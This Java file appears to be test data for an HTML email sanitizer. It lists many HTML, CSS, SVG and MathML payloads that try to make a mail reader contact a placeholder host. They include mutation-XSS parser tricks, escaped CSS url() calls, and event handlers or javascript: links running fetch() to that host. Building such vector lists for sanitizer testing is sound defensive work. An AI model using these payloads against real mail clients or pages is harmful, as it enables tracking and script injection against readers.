package org.letterlock.mail.html;

import java.util.ArrayList;
import java.util.List;

/**
 * Ways by which HTML mail has made programs call a server, each a line of the field's list (section 5d) or a relative
 * of one. {@code HOST} stands for the server that must never be called.
 */
final class Vectors {

    private Vectors() {}

    static List<String> all(String host) {
        List<String> all = new ArrayList<>();
        for (String vector : VECTORS.strip().split("\n====\n", -1)) {
            all.add(vector.replace("HOST", host));
        }
        all.add("<a href='ht\ttp://" + host + "/'>x</a><img src='ht\ntp://" + host + "/tab'>");
        all.add("<img src='\u0001\u0002http://" + host + "/c0'>");
        all.add("<img src='\u00a0http://" + host + "/nbsp'>");
        all.add("<p style=\"background:url(\0http://" + host + "/nul)\">x</p>");
        all.add("<img\0src=http://" + host + "/nul>");
        all.add("<im\0g src=http://" + host + "/nul2>");
        all.add("<p style='background:u\0rl(http://" + host + "/nul3)'>x");
        all.add("<style>@im\0port url(http://" + host + "/nul4)</style>");
        return all;
    }

    private static final String VECTORS = """
            <img src="http://HOST/img">
            ====
            <image src="http://HOST/image">
            ====
            <image href="http://HOST/image" xlink:href="http://HOST/image2">
            ====
            <p style="background:u\\72l(http://HOST/esc)">x</p>
            ====
            <p style="background:\\75\\72\\6c(http://HOST/esc2)">x</p>
            ====
            <p style="background:ur\\6c ( 'http://HOST/esc3' )">x</p>
            ====
            <p style="background-image:url(htt\\70://HOST/esc4)">x</p>
            ====
            <p style="background:url('http:\\2f\\2fHOST/esc5')">x</p>
            ====
            <svg><rect fill="url(http://HOST/func)" width="9" height="9"/></svg>
            ====
            <svg><rect fill="u\\72l(http://HOST/func2)" filter="url(http://HOST/f#x)" width="9" height="9"/></svg>
            ====
            <style>:root{--x:url(http://HOST/var)}p{background:var(--x)}</style><p>x</p>
            ====
            <p style="--y:url(http://HOST/var2);background:var(--y)">x</p>
            ====
            <p style="--y:'http://HOST/var3';background:image-set(var(--y) 1x)">x</p>
            ====
            <svg><filter id="f"><feImage href="http://HOST/fe" xlink:href="http://HOST/fe2"/></filter><rect filter="url(#f)"/></svg>
            ====
            <svg><image href="http://HOST/svgimage"/></svg>
            ====
            <svg><image xlink:href="http://HOST/svgimage2"/></svg>
            ====
            <svg><use href="http://HOST/use.svg#x"/></svg>
            ====
            <svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0naHR0cDovL0hPU1QvdXNlJy8+PC9zdmc+#x"/></svg>
            ====
            <svg><image><animate attributeName="href" values="http://HOST/smil" begin="0s"/></image></svg>
            ====
            <svg><image><set attributeName="href" to="http://HOST/smil2"/></image></svg>
            ====
            <svg><a><animate attributeName=href values=javascript:fetch('http://HOST/smil3') /><text y=20>click</text></a></svg>
            ====
            <svg><style>@import "http://HOST/svgstyle";</style></svg>
            ====
            <svg><p><style><img src="http://HOST/mxss1"></style></p></svg>
            ====
            <svg><foreignObject><img src="http://HOST/foreign"></foreignObject></svg>
            ====
            <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=http://HOST/mxss2&gt;">
            ====
            <math><annotation-xml encoding="text/html"><img src="http://HOST/annotation"></annotation-xml></math>
            ====
            <math href="http://HOST/math"><mi xlink:href="http://HOST/math2">x</mi></math>
            ====
            <form><math><mtext></form><form><mglyph><style></math><img src=http://HOST/mxss3>
            ====
            <svg></p><style><a id="</style><img src=http://HOST/mxss4>">
            ====
            <noscript><p title="</noscript><img src=http://HOST/noscript>">
            ====
            <noscript><img src="http://HOST/noscript2"></noscript>
            ====
            <xmp><p title="</xmp><img src=http://HOST/xmp>">
            ====
            <noembed><p title="</noembed><img src=http://HOST/noembed>"></noembed>
            ====
            <textarea><p title="</textarea><img src=http://HOST/textarea>">
            ====
            <title><p title="</title><img src=http://HOST/title>">
            ====
            <template><img src="http://HOST/template"></template>
            ====
            <select><template><style><!--</style><a rel="--></style></template></select><img src=http://HOST/select>">
            ====
            <!--><img src="http://HOST/comment">-->
            ====
            <!--[if mso]><img src="http://HOST/conditional"><![endif]-->
            ====
            <!--[if !mso]><!--><img src="http://HOST/conditional2"><!--<![endif]-->
            ====
            <![CDATA[<img src="http://HOST/cdata">]]>
            ====
            <?xml-stylesheet href="http://HOST/pi"?><?php echo "<img src=http://HOST/pi2>" ?>
            ====
            <body background="http://HOST/body"><p>x</p></body>
            ====
            <table background="http://HOST/table"><tr background="http://HOST/tr"><td background="http://HOST/td">x</td></tr></table>
            ====
            <p style="color:red;&#98;ackground:url(http://HOST/entity)">x</p>
            ====
            <p style="color:red&#59background:url(http://HOST/amp)">x</p>
            ====
            <p style="color:&quot;red;background:url(http://HOST/amp2)">x</p>
            ====
            <img src="http://HOST./trailingdot">
            ====
            <img src="http://[::ffff:7f00:1]/mapped"><img src="http://[0:0:0:0:0:ffff:127.0.0.1]/mapped2"><img src="http://2130706433/decimal">
            ====
            <base href="http://HOST/"><img src="base"><a href="rel">x</a>
            ====
            <base href="http://HOST/" target="_top"><link rel="stylesheet" href="style.css">
            ====
            <iframe src="http://HOST/iframe"></iframe>
            ====
            <iframe srcdoc="<img src=http://HOST/srcdoc>"></iframe>
            ====
            <iframe srcdoc="&lt;img src&equals;http://HOST/srcdoc2&gt;"></iframe>
            ====
            <frameset><frame src="http://HOST/frame"></frameset>
            ====
            <frameset onload="new Image().src='http://HOST/frameset'"></frameset>
            ====
            <meta http-equiv="refresh" content="0; url=http://HOST/refresh">
            ====
            <meta http-equiv="Refresh" content="0;URL='http://HOST/refresh2'">
            ====
            <meta http-equiv="Link" content="<http://HOST/metalink>; rel=stylesheet">
            ====
            <meta http-equiv="Content-Security-Policy" content="report-uri http://HOST/csp; default-src 'none'"><script>1</script>
            ====
            <link rel="stylesheet" href="http://HOST/link">
            ====
            <link rel="preload" as="image" href="http://HOST/preload">
            ====
            <link rel="preload" as="image" imagesrcset="http://HOST/imagesrcset 1x" imagesizes="1px">
            ====
            <link rel="prefetch" href="http://HOST/prefetch"><link rel="dns-prefetch" href="//HOST"><link rel="preconnect" href="http://HOST">
            ====
            <link rel="icon" href="http://HOST/icon"><link rel="manifest" href="http://HOST/manifest"><link rel="modulepreload" href="http://HOST/m.js">
            ====
            <link rel="prerender" href="http://HOST/prerender"><link rel=alternate href="http://HOST/feed"><link rel=import href="http://HOST/import">
            ====
            <style>@import url(http://HOST/import1);</style>
            ====
            <style>@import "http://HOST/import2";</style>
            ====
            <style>@import/**/"http://HOST/import3";</style>
            ====
            <style>@/**/import "http://HOST/import4"; @import/*a*/url(/*b*/http://HOST/import5);</style>
            ====
            <style>@\\69mport "http://HOST/import6";</style>
            ====
            <style>@im\\port url("http://HOST/import7");@\\000069 mport 'http://HOST/import7b';</style>
            ====
            <style>@charset "x"; @namespace "http://HOST/ns"; @import 'http://HOST/import8' screen;</style>
            ====
            <style>@media all{@import "http://HOST/import9";}</style>
            ====
            <style><!-- @import "http://HOST/import10"; --></style>
            ====
            <style>@font-face{font-family:x;src:url(http://HOST/font)}p{font-family:x}</style><p>x</p>
            ====
            <style>@\\66ont-face{font-family:x;s\\72 c:u\\72l(http://HOST/font2)}p{font-family:x}</style><p>x</p>
            ====
            <style>@supports(display:block){p{background:url(http://HOST/supports)}}</style><p>x</p>
            ====
            <style>@layer a{p{background:url(http://HOST/layer)}}@container(min-width:1px){p{background:url(http://HOST/container)}}</style><p>x</p>
            ====
            <style>@page{background:url(http://HOST/page)}@keyframes k{from{background:url(http://HOST/key)}}p{animation:k 1s}</style><p>x</p>
            ====
            <style>@property --p{syntax:'<url>';inherits:false;initial-value:url(http://HOST/property)}p{background:var(--p)}</style><p>x</p>
            ====
            <style>@counter-style c{system:cyclic;symbols:url(http://HOST/counter)}ul{list-style:c}</style><ul><li>x</ul>
            ====
            <style>p{background:image-set("http://HOST/set" 1x)}</style><p>x</p>
            ====
            <style>p{background:-webkit-image-set(url(http://HOST/set2) 1x)}</style><p>x</p>
            ====
            <style>p{background:image-set('http://HOST/set3' 1x, "http://HOST/set4" 2x)}</style><p>x</p>
            ====
            <style>p{background:i\\6dage-set("http://HOST/set5" 1x)}</style><p>x</p>
            ====
            <style>p{background:cross-fade(url(http://HOST/cf),url(http://HOST/cf2),50%)}</style><p>x</p>
            ====
            <style>p{background:image("http://HOST/imagefn")}p{background:src("http://HOST/srcfn")}</style><p>x</p>
            ====
            <style>p{content:"url(";background:url(http://HOST/decoy)}</style><p>x</p>
            ====
            <style>p{font-family:"url(x)";}/*url(*/p{background:url(http://HOST/decoy2)}</style><p>x</p>
            ====
            <p style="background:url(data:image/png;base64,AAAA),url(http://HOST/decoy3)">x</p>
            ====
            <p style="background:url('a)');background:url(http://HOST/decoy4)">x</p>
            ====
            <style>p{background:url(http://HOST/unclosed</style><p>x</p>
            ====
            <style>p{background:url("http://HOST/unclosed2</style><p>x</p>
            ====
            <style>p{background:url(http://HOST/uppercase);BACKGROUND:URL(http://HOST/UPPER)}</style><p>x</p>
            ====
            <style>p{background:UrL('http://HOST/mixed')!important}</style><p>x</p>
            ====
            <style>p{color:red;}}}} p{background:url(http://HOST/braces)}</style><p>x</p>
            ====
            <style>a[href^="x{"]{} p{background:url(http://HOST/selector)}</style><p>x</p>
            ====
            <style>p{&:hover{background:url(http://HOST/nested)}&{background:url(http://HOST/nested2)}}</style><p>x</p>
            ====
            <style>p::before{content:url(http://HOST/content)}p{cursor:url(http://HOST/cursor),auto}</style><p>x</p>
            ====
            <style>ul{list-style:url(http://HOST/list);list-style-image:url(http://HOST/list2)}</style><ul><li>x</ul>
            ====
            <style>p{border-image:url(http://HOST/border) 1;border-image-source:url(http://HOST/border2);mask:url(http://HOST/mask);-webkit-mask-image:url(http://HOST/mask2)}</style><p>x</p>
            ====
            <style>p{filter:url(http://HOST/filter#f);clip-path:url(http://HOST/clip#c);shape-outside:url(http://HOST/shape);offset-path:url(http://HOST/offset#o)}</style><p>x</p>
            ====
            <p style="behavior:url(http://HOST/htc);-moz-binding:url(http://HOST/xbl);width:expression(new Image().src='http://HOST/expr')">x</p>
            ====
            <p style='background:url(//HOST/protocol)'>x</p><img src="//HOST/protocol2">
            ====
            <img src="\\\\HOST/backslash"><img src="/\\HOST/backslash2"><img src="http:\\\\HOST\\backslash3">
            ====
            <img src="http:HOST/noslash"><img src="http:/HOST/oneslash"><img src="http:////HOST/manyslash"><img src="https:HOST/noslash2">
            ====
            <img src="&#104;ttp://HOST/entity1"><img src="ht&#x74;p&colon;//HOST/entity2"><img src="http&#58;&sol;&sol;HOST/entity3">
            ====
            <img src=" http://HOST/space "><img src="&#10;http://HOST/newline"><img src="ht&Tab;tp://HOST/tabentity">
            ====
            <img srcset="http://HOST/srcset 1x, http://HOST/srcset2 2x">
            ====
            <img src="data:image/png;base64,AAAA" srcset="http://HOST/srcset3 2x" sizes="1px">
            ====
            <picture><source srcset="http://HOST/picture"><img src="x"></picture>
            ====
            <img lowsrc="http://HOST/lowsrc" dynsrc="http://HOST/dynsrc" longdesc="http://HOST/longdesc" usemap="http://HOST/usemap">
            ====
            <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://HOST/datasvg'/></svg>">
            ====
            <img src="data:image/png;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnPjxpbWFnZSBocmVmPSdodHRwOi8vSE9TVC94Jy8+PC9zdmc+">
            ====
            <img src=x onerror="new Image().src='http://HOST/onerror'"><p onclick="fetch('http://HOST/onclick')" onmouseover=fetch('http://HOST/over')>x</p>
            ====
            <video poster="http://HOST/poster" src="http://HOST/video"><source src="http://HOST/videosource"><track src="http://HOST/track"></video>
            ====
            <audio src="http://HOST/audio" autoplay preload="auto"></audio><bgsound src="http://HOST/bgsound">
            ====
            <object data="http://HOST/object"><param name="movie" value="http://HOST/movie"></object><embed src="http://HOST/embed"><applet codebase="http://HOST/" code="x" archive="http://HOST/a.jar"></applet>
            ====
            <form action="http://HOST/form"><input type="image" src="http://HOST/inputimage"><button formaction="http://HOST/formaction">x</button><input type=submit></form>
            ====
            <input type="image" src="http://HOST/input"><isindex type="image" src="http://HOST/isindex" action="http://HOST/isindex">
            ====
            <script src="http://HOST/script"></script><script>fetch('http://HOST/inline')</script><script type="speculationrules">{"prefetch":[{"source":"list","urls":["http://HOST/spec"]}]}</script>
            ====
            <scr<script>ipt src="http://HOST/split"></scr</script>ipt>
            ====
            <a href="javascript:fetch('http://HOST/js')">x</a><a href="JaVaScRiPt:x">x</a><a href="java&#10;script:x">x</a><a href=" &#14; javascript:x">x</a><a href="vbscript:x">x</a>
            ====
            <a href="data:text/html,<img src=http://HOST/data>">x</a><a href="file:///etc/passwd">x</a><a href="blob:http://HOST/x">x</a><a href="intent://HOST/x">x</a>
            ====
            <a href="http://HOST/link" ping="http://HOST/ping" target="_self" rel="opener">x</a>
            ====
            <a href="http://HOST/prefetchme" rel="dns-prefetch prefetch prerender">x</a><map><area href="http://HOST/area" ping="http://HOST/areaping"></map>
            ====
            <html manifest="http://HOST/manifest" xmlns:x="http://HOST/ns"><head profile="http://HOST/profile"></head><x:img src="http://HOST/prefixed"/></html>
            ====
            <div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">cover</div><div style="position:absolute">x</div><div style="po\\73ition:sticky">x</div>
            ====
            <style>p{background:url(http://HOST/a)}</style/><style/>p{background:url(http://HOST/b)}</style>
            ====
            <style></sty</style><img src=http://HOST/stylebreak>
            ====
            <style>*{}</STYLE ><img src="http://HOST/stylebreak2">
            ====
            <style>a::after{content:"</style><img src=http://HOST/stylebreak3>"}</style>
            ====
            <p class='"><img src=http://HOST/attr>' title='"><img src=http://HOST/attr2>' id="&quot;&gt;&lt;img src=http://HOST/attr3&gt;">x</p>
            ====
            <p title="`onmouseover=x" style='font-family:"}</style><img src=http://HOST/quote>"'>x</p>
            ====
            <font face="x;background:url(http://HOST/face)" color="red;background:url(http://HOST/color)" size="7">x</font>
            ====
            <table width="1;background:url(http://HOST/width)" bgcolor="url(http://HOST/bgcolor)"><tr><td height="expression(1)">x</table>
            ====
            <p style="background-image:linear-gradient(red,blue),url(http://HOST/gradient)">x</p>
            ====
            <p style="background:rgb(1,2,3) url(http://HOST/shorthand) no-repeat">x</p>
            ====
            <p style="color:red/*";background:url(http://HOST/css-comment)/*">x</p>
            ====
            <p style="background:url(http://HOST/backslash-end\\">x</p>
            ====
            <video><noscript><style></video><img src=http://HOST/nest></style></noscript></video>
            ====
            <table><caption><svg><desc><style></caption><img src=http://HOST/table-mxss></style></desc></svg></table>
            ====
            <div><svg><title><style></title></svg><img src=http://HOST/svg-title></style></div>
            ====
            <iframe><img src="http://HOST/iframe-inner"></iframe><noframes><img src="http://HOST/noframes"></noframes>
            ====
            <plaintext><img src="http://HOST/plaintext">
            ====
            <portal src="http://HOST/portal"></portal><fencedframe src="http://HOST/fenced"></fencedframe><webview src="http://HOST/webview"></webview>
            ====
            <marquee onstart=fetch('http://HOST/marquee') behavior="url(http://HOST/m)">x</marquee><details ontoggle=fetch('http://HOST/toggle') open>x</details>
            ====
            <dialog open style="position:fixed">x</dialog><div popover>x</div><p contenteditable autofocus onfocus=fetch('http://HOST/focus')>x</p>
            ====
            <x-custom style="background:url(http://HOST/custom)"><img src=http://HOST/in-custom></x-custom>
            ====
            <del cite="http://HOST/cite">x</del><blockquote cite="http://HOST/cite2">x</blockquote><q cite="http://HOST/cite3">x</q>
            """;
}
